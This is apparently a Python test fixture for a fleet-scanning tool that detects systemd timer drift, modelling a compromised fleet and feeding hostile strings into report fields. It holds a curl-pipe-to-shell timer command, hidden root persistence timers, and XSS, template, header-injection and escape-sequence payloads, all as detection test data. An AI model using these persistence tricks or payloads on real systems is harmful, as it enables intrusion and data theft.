"""A fleet after a bad night, for tests of report and mail: 24 hosts, every kind of drift, every kind of silence."""

import hashlib
from dataclasses import replace
from datetime import UTC, datetime, timedelta

from fleetscan.model.baseline import Cohort, Prevalence
from fleetscan.model.coverage import Area, Coverage, Gap, ReadStatus
from fleetscan.model.drift import DirectiveChange, DriftItem, DriftKind, HostDrift, Severity, TextChange
from fleetscan.model.finding import EvidenceLine, Finding, FindingId, FindingLife, Hit, RuleId, Technique
from fleetscan.model.host import Connection, Host, Owner
from fleetscan.model.ids import SYSTEM, HostName, Scope, Sha256, SweepId, UnitName, user_scope
from fleetscan.model.origin import Origin
from fleetscan.model.outcome import Outcome
from fleetscan.model.snapshot import HostFacts, Privilege, TimerRow
from fleetscan.model.subject import Fingerprint, Subject, SubjectKey, SubjectKind
from fleetscan.model.sweep import Selection, Sweep, SweepState, Visit
from fleetscan.model.unit import ExecCommand, SourceKind, Trigger, UnitSource, UnitState
from fleetscan.report.inputs import BaselineHeader, ItemKey, ReportInputs

NOW = datetime(2026, 11, 24, 3, 5, tzinfo=UTC)
START = datetime(2026, 11, 24, 2, 40, tzinfo=UTC)
LAST_NIGHT = START - timedelta(days=1)
WEB, DB = Cohort("web", "debian", "12"), Cohort("db", "debian", "13")
ANNA = Owner("Anna Weber", "anna.weber@example.org")
BORIS = Owner("Boris Petrov", "boris@example.org")
CLARA = Owner("Clara Lindqvist", "clara@example.org")
ETC = "/etc/systemd/system"
LIB = "/usr/lib/systemd/system"


def digest(text: str) -> Sha256:
    return Sha256(hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest())


def make_host(name: str, owner: Owner, role: str) -> Host:
    return Host(
        name=HostName(name),
        address=f"{name}.example.org",
        connection=Connection(user="scan"),
        owner=owner,
        groups=(role,),
    )


def make_hosts() -> dict[HostName, Host]:
    hosts = [make_host(f"web-{n:03}", ANNA if n <= 10 else BORIS, "web") for n in range(9, 23)]
    hosts += [make_host(f"db-{n:02}", CLARA, "db") for n in range(1, 11)]
    return {host.name: host for host in hosts}


def make_command(text: str, path: str, line: int, directive: str = "ExecStart") -> ExecCommand:
    words = tuple(text.lstrip("-+!@:").split())
    return ExecCommand(directive=directive, prefixes="", path=words[0], argv=words, raw=text, origin=Origin(path, line))


def make_job(
    name: str,
    *,
    folder: str = LIB,
    schedule: str = "daily",
    command: str = "/usr/bin/true",
    scope: Scope = SYSTEM,
    run_as: str = "root",
    state: UnitState | None = None,
    drop_ins: tuple[str, ...] = (),
    more_commands: tuple[ExecCommand, ...] = (),
) -> Subject:
    timer, service = UnitName(f"{name}.timer"), UnitName(f"{name}.service")
    timer_path, service_path = f"{folder}/{timer}", f"{folder}/{service}"
    seed = f"{scope}{folder}{name}{schedule}{command}{drop_ins}"
    return Subject(
        key=SubjectKey(SubjectKind.JOB, scope, timer),
        fingerprint=Fingerprint(digest("m" + seed), digest("s" + seed), digest("r" + seed), digest("")),
        unit_names=(timer, service),
        sources=(
            UnitSource(SourceKind.FRAGMENT, timer_path, digest(timer_path)),
            UnitSource(SourceKind.FRAGMENT, service_path, digest(service_path)),
            *(UnitSource(SourceKind.DROP_IN, path, digest(path)) for path in drop_ins),
        ),
        links=(f"{ETC}/timers.target.wants/{timer}",),
        triggers=(Trigger("OnCalendar", schedule, schedule, Origin(timer_path, 5)),),
        commands=(make_command(command, service_path, 6), *more_commands),
        run_as=run_as,
        state=state or UnitState(enabled="enabled", active="active", listed=True),
        summary=f"runs {command.split(maxsplit=1)[0]} as {run_as}, {schedule}",
    )


def intruder() -> DriftItem:
    subject = make_job("systemd-netmon", folder=ETC, schedule="*:*", command="/var/tmp/.x/upd --quiet")
    lines = (
        "@@ -0,0 +1,9 @@",
        "+[Unit]",
        "+Description=Network monitor",
        "+",
        "+[Timer]",
        "+OnCalendar=*:*",
        "+AccuracySec=1s",
        "+",
        "+[Install]",
        "+WantedBy=timers.target",
    )
    service = ("@@ -0,0 +1,3 @@", "+[Service]", "+Type=oneshot", "+ExecStart=/var/tmp/.x/upd --quiet")
    return DriftItem(
        host=HostName("web-017"),
        cohort=WEB,
        kind=DriftKind.ADDED,
        severity=Severity.CRITICAL,
        subject=subject,
        expected=None,
        prevalence=Prevalence(1, 12),
        reference="baseline 3",
        texts=(
            TextChange(path=f"{ETC}/systemd-netmon.timer", lines=lines),
            TextChange(path=f"{ETC}/systemd-netmon.service", lines=service),
        ),
        sentence="web-017 runs /var/tmp/.x/upd as root every minute; no other of 12 web hosts has this timer",
        first_seen_at=START,
        last_absent_at=LAST_NIGHT,
    )


def user_timer() -> tuple[DriftItem, DriftItem]:
    home = "/home/deploy/.config/systemd/user"
    scope = user_scope("deploy")
    subject = make_job(
        "sync", folder=home, schedule="*:0/5", command="/bin/sh -c 'curl -s http://192.0.2.7/s | sh'", scope=scope,
        run_as="deploy",
    )  # fmt: skip
    job = DriftItem(
        host=HostName("web-021"),
        cohort=WEB,
        kind=DriftKind.ADDED,
        severity=Severity.HIGH,
        subject=subject,
        expected=None,
        prevalence=Prevalence(1, 12),
        reference="baseline 3",
        sentence="web-021 runs /bin/sh as deploy every 5 minutes, from a timer in deploy's home",
        first_seen_at=START,
        last_absent_at=LAST_NIGHT,
    )
    linger = Subject(
        key=SubjectKey(SubjectKind.LINGER, SYSTEM, "deploy"),
        fingerprint=Fingerprint(digest("linger"), digest("linger"), digest("linger"), digest("")),
        summary="deploy's user manager starts at boot",
    )
    lingering = replace(
        job,
        severity=Severity.MEDIUM,
        subject=linger,
        sentence="web-021 starts deploy's user manager at boot, without a login",
    )
    return job, lingering


def drop_in() -> DriftItem:
    path = f"{ETC}/logrotate.service.d/override.conf"
    extra = make_command("/usr/local/bin/.cache-warm", path, 2, "ExecStartPost")
    expected = make_job("logrotate", command="/usr/sbin/logrotate /etc/logrotate.conf")
    subject = make_job(
        "logrotate", command="/usr/sbin/logrotate /etc/logrotate.conf", drop_ins=(path,), more_commands=(extra,)
    )
    return DriftItem(
        host=HostName("db-03"),
        cohort=DB,
        kind=DriftKind.CHANGED,
        severity=Severity.HIGH,
        subject=subject,
        expected=expected,
        prevalence=Prevalence(1, 9),
        reference="baseline 2",
        changes=(
            DirectiveChange(
                unit=UnitName("logrotate.service"),
                section="Service",
                key="ExecStartPost",
                before=(),
                after=("/usr/local/bin/.cache-warm",),
                origin=Origin(path, 2),
            ),
        ),
        texts=(
            TextChange(path=path, lines=("@@ -0,0 +1,2 @@", "+[Service]", "+ExecStartPost=/usr/local/bin/.cache-warm")),
        ),
        sentence="db-03 also runs /usr/local/bin/.cache-warm as root after logrotate, daily",
        first_seen_at=START,
        last_absent_at=LAST_NIGHT,
    )


def masked_update() -> DriftItem:
    masked = UnitState(enabled="masked", active="inactive", listed=False)
    subject = make_job(
        "apt-daily-upgrade", schedule="*-*-* 6:00", command="/usr/lib/apt/apt.systemd.daily install", state=masked
    )
    return DriftItem(
        host=HostName("db-07"),
        cohort=DB,
        kind=DriftKind.STATE,
        severity=Severity.HIGH,
        subject=subject,
        expected=make_job("apt-daily-upgrade", schedule="*-*-* 6:00", command="/usr/lib/apt/apt.systemd.daily install"),
        prevalence=Prevalence(1, 9),
        reference="baseline 2",
        state_before="enabled, active",
        state_after="masked, inactive",
        sentence="db-07 no longer installs security updates: apt-daily-upgrade.timer is masked",
        first_seen_at=LAST_NIGHT - timedelta(days=4),
        last_absent_at=LAST_NIGHT - timedelta(days=5),
    )


def retimed_backup() -> DriftItem:
    timer = f"{ETC}/backup.timer"
    return DriftItem(
        host=HostName("web-012"),
        cohort=WEB,
        kind=DriftKind.CHANGED,
        severity=Severity.MEDIUM,
        subject=make_job("backup", folder=ETC, schedule="Sun 03:00", command="/opt/backup/run"),
        expected=make_job("backup", folder=ETC, schedule="03:00", command="/opt/backup/run"),
        prevalence=Prevalence(1, 12),
        reference="baseline 3",
        changes=(
            DirectiveChange(
                unit=UnitName("backup.timer"),
                section="Timer",
                key="OnCalendar",
                before=("03:00",),
                after=("Sun 03:00",),
                origin=Origin(timer, 5),
            ),
        ),
        texts=(
            TextChange(
                path=timer,
                lines=(
                    "@@ -1,7 +1,7 @@",
                    " [Unit]",
                    " Description=Nightly backup",
                    " ",
                    " [Timer]",
                    "-OnCalendar=03:00",
                    "+OnCalendar=Sun 03:00",
                    " ",
                    " [Install]",
                ),
            ),
        ),
        sentence="web-012 runs its backup once a week instead of once a day",
        first_seen_at=LAST_NIGHT - timedelta(days=9),
        last_absent_at=LAST_NIGHT - timedelta(days=10),
    )


def raw_only() -> DriftItem:
    path = f"{ETC}/metrics.service"
    return DriftItem(
        host=HostName("web-009"),
        cohort=WEB,
        kind=DriftKind.CHANGED,
        severity=Severity.INFO,
        subject=make_job("metrics", folder=ETC, schedule="*:0/15", command="/opt/metrics/push"),
        expected=make_job("metrics", folder=ETC, schedule="*:0/15", command="/opt/metrics/push"),
        prevalence=Prevalence(1, 12),
        reference="baseline 3",
        texts=(TextChange(path=path, lines=("@@ -1,2 +1,3 @@", "+# managed by hand", " [Service]", " Type=oneshot")),),
        raw_only=True,
        sentence="web-009 spells metrics.service differently; it does the same",
        first_seen_at=START,
        last_absent_at=LAST_NIGHT,
    )


def removed_timer() -> DriftItem:
    subject = make_job("fstrim", schedule="weekly", command="/sbin/fstrim --listed-in /etc/fstab")
    return DriftItem(
        host=HostName("web-010"),
        cohort=WEB,
        kind=DriftKind.REMOVED,
        severity=Severity.LOW,
        subject=subject,
        expected=subject,
        prevalence=Prevalence(12, 12),
        reference="baseline 3",
        sentence="web-010 no longer has fstrim.timer",
    )


_FAILURES = {
    HostName("web-014"): (
        Outcome.UNREACHABLE,
        "no route to host",
        (),
        "check that the host is up and that port 22 is open from here",
    ),
    HostName("db-09"): (
        Outcome.HOST_KEY_CHANGED,
        "the host presented another key than the one that was accepted",
        ("expected SHA256:V6s1mSSfCrB0Qe1vOJk2lG0YcR0yKpFq0mH7b3Z9b5w",
         "presented SHA256:9pTgqv1yR2mV1lYb0sQkH4c8dN6eW3xJtL5uKzA7oGI"),
        "find out why before accepting it: reinstalled, or somebody in between",
    ),
}  # fmt: skip
PARTIAL = HostName("db-05")
_GAPS = Coverage.of(
    [
        Gap(Area.FILES, user_scope("postgres"), ReadStatus.DENIED, "/var/lib/postgresql/.config", "permission denied"),
        Gap(Area.LINGER, None, ReadStatus.DENIED, "/var/lib/systemd/linger", "permission denied"),
    ]
)


def make_visit(host: Host) -> Visit:
    failure = _FAILURES.get(host.name)
    started = START + timedelta(seconds=len(host.name))
    if failure:
        outcome, reason, evidence, hint = failure
        return Visit(
            sweep=SweepId(12), host=host.name, outcome=outcome, started_at=started, duration_s=10.0, manifest=None,
            facts=None, coverage=Coverage(), reason=reason, evidence=evidence, hint=hint,
        )  # fmt: skip
    is_web = host.role == "web"
    facts = HostFacts(
        os_id="debian",
        os_version_id="12" if is_web else "13",
        os_name="Debian GNU/Linux 12 (bookworm)" if is_web else "Debian GNU/Linux 13 (trixie)",
        systemd_version=252 if is_web else 257,
        privilege=Privilege.USER if host.name == PARTIAL else Privilege.SUDO,
        login="scan",
    )
    return Visit(
        sweep=SweepId(12),
        host=host.name,
        outcome=Outcome.PARTIAL if host.name == PARTIAL else Outcome.COMPLETE,
        started_at=started,
        duration_s=0.4,
        manifest=1,
        facts=facts,
        coverage=_GAPS if host.name == PARTIAL else Coverage(),
        hint="allow the probe to be raised with sudo; `fleetscan doctor` prints the line"
        if host.name == PARTIAL
        else "",
    )


def make_sweep(number: int, started_at: datetime, hosts: int) -> Sweep:
    return Sweep(
        id=SweepId(number), state=SweepState.COMPLETE, started_at=started_at,
        ended_at=started_at + timedelta(minutes=2), author="ops", hosts=hosts, selection=Selection(),
        tool_version="0.1.0", probe_sha256=digest("probe"),
    )  # fmt: skip


def make_drifts(hosts: dict[HostName, Host], items: tuple[DriftItem, ...]) -> tuple[HostDrift, ...]:
    drifts = []
    for host in hosts.values():
        if host.name in _FAILURES:
            continue
        own = sorted((item for item in items if item.host == host.name), key=lambda item: (-item.severity, item.key))
        hidden = ("linger: /var/lib/systemd/linger could not be read",) if host.name == PARTIAL else ()
        drifts.append(
            HostDrift(
                host=host.name,
                cohort=WEB if host.role == "web" else DB,
                reference="baseline 3" if host.role == "web" else "baseline 2",
                items=tuple(own),
                not_compared=hidden,
            )
        )
    return tuple(drifts)


def make_finding(item: DriftItem, text: str = "") -> Finding:
    """Give what a rule says of one difference."""
    line = EvidenceLine(text or item.sentence, item.subject.sources[0].path if item.subject.sources else "", 3)
    rule = RuleId(text or "FS-001")
    hit = Hit(
        rule=rule,
        title=text or "New timer that no package owns",
        severity=item.severity,
        technique=Technique.PLAIN_PAIR,
        attack=("T1053.006",),
        evidence=(line,),
    )
    return Finding(
        id=FindingId(digest(f"{item.host} {item.key}")[:16]),
        host=item.host,
        cohort=item.cohort,
        subject=item.subject,
        severity=item.severity,
        content=digest(item.key.name),
        hits=(hit,),
        prevalence=item.prevalence,
        drift=(item,),
        techniques=(Technique.PLAIN_PAIR,),
        sentence=item.sentence,
        life=FindingLife(first_seen_at=item.first_seen_at),
    )


def make_inputs() -> ReportInputs:
    """The whole story: two hosts attacked last night, old drift around them, three hosts not (fully) read."""
    hosts = make_hosts()
    fresh = (intruder(), *user_timer(), drop_in())
    items = (*fresh, masked_update(), retimed_backup(), raw_only(), removed_timer())
    visits = tuple(make_visit(host) for host in hosts.values())
    return ReportInputs(
        sweep=make_sweep(12, START, len(hosts)),
        previous=make_sweep(11, LAST_NIGHT, len(hosts)),
        visits=visits,
        drifts=make_drifts(hosts, items),
        findings=tuple(make_finding(item) for item in sorted(items, key=lambda item: -item.severity)),
        hosts=hosts,
        baselines=(
            BaselineHeader(cohort=WEB, version=3, approved_at=datetime(2026, 11, 14, 9, 0, tzinfo=UTC), author="mira"),
            BaselineHeader(cohort=DB, version=2, approved_at=datetime(2026, 10, 2, 9, 0, tzinfo=UTC), author="mira"),
        ),
        generated_at=NOW,
        new_items=frozenset(map(ItemKey.of, fresh)),
        last_read_at={name: LAST_NIGHT if name in _FAILURES else START for name in hosts},
        previous_outcomes=dict.fromkeys(hosts, Outcome.COMPLETE) | {PARTIAL: Outcome.PARTIAL},
        timers={
            HostName("web-017"): (
                TimerRow(scope=SYSTEM, unit=UnitName("systemd-netmon.timer"), next_at=NOW + timedelta(minutes=1)),
            )
        },
    )


def make_quiet_inputs() -> ReportInputs:
    """The same fleet on a good night: everything read, nothing drifted."""
    inputs = make_inputs()
    visits = tuple(replace(make_visit(make_host("web-001", ANNA, "web")), host=name) for name in inputs.hosts)
    drifts = tuple(HostDrift(host=name, cohort=WEB, reference="baseline 3", items=()) for name in inputs.hosts)
    return replace(inputs, visits=visits, drifts=drifts, findings=(), new_items=frozenset(), timers={})


HOSTILE = (
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(2)</script>",
    "</style><svg onload=alert(3)>",
    '" onmouseover=alert(4) x="',
    "' autofocus onfocus='alert(5)",
    "{{ 7*7 }}{% raise %}",
    "\u202egpj.exe\u2066",
    "\x1b[2J\x1b]0;owned\x07",
    "nul\x00nul",
    "line\r\nBcc: everyone@example.net\r\n\r\nbody",
    "torn\udc80\ud800surrogate",
    "\u2028\u2029\ufeff\u200b\u00ad\U000e0041",
    "javascript:alert(6)",
    "x" * 1_000_000,
)


def make_hostile_inputs(text: str) -> ReportInputs:
    """Put one text into every field that a host controls."""
    inputs = make_inputs()
    origin = Origin(f"/etc/{text}", 3)
    subject = Subject(
        key=SubjectKey(SubjectKind.JOB, user_scope(text), f"{text}.timer"),
        fingerprint=Fingerprint(digest("1"), digest("2"), digest("3"), digest("")),
        unit_names=(UnitName(f"{text}.timer"), UnitName(f"{text}.service")),
        sources=(
            UnitSource(SourceKind.FRAGMENT, f"/etc/{text}.timer", None, text),
            UnitSource(SourceKind.DROP_IN, f"/etc/x.d/{text}.conf", None),
        ),
        links=(text,),
        triggers=(Trigger("OnCalendar", text, text, origin),),
        commands=(
            ExecCommand(directive="ExecStart", prefixes="", path=f"/{text}", argv=(text,), raw=text, origin=origin),
        ),
        run_as=text,
        state=UnitState(enabled=text, active=text),
        summary=text,
    )
    item = replace(
        intruder(),
        kind=DriftKind.CHANGED,
        subject=subject,
        expected=subject,
        changes=(
            DirectiveChange(unit=UnitName(text), section=text, key=text, before=(text,), after=(text,), origin=origin),
        ),
        texts=(TextChange(path=text, lines=(text, "+" + text, "-" + text, " " + text, "@@ -" + text)),),
        state_before=text,
        state_after=text,
        sentence=f"runs {text}",
        cohort=Cohort("web", text, text),
    )
    facts = HostFacts(os_id=text, os_version_id=text, os_name=text, hostname=text, systemd_version=252, login=text)
    gap = Gap(Area.FILES, user_scope(text), ReadStatus.DENIED, f"/{text}", text)
    visits = tuple(
        replace(
            v, outcome=Outcome.PARTIAL, facts=facts, coverage=Coverage((gap,)), reason=text, evidence=(text,), hint=text
        )
        if v.host in (item.host, "web-014")
        else v
        for v in inputs.visits
    )
    drifts = tuple(
        replace(d, items=(item,), not_compared=(text,), cohort=item.cohort) if d.host == item.host else d
        for d in inputs.drifts
    )
    findings = (make_finding(item, text),)
    return replace(inputs, visits=visits, drifts=drifts, findings=findings, new_items=frozenset({ItemKey.of(item)}))
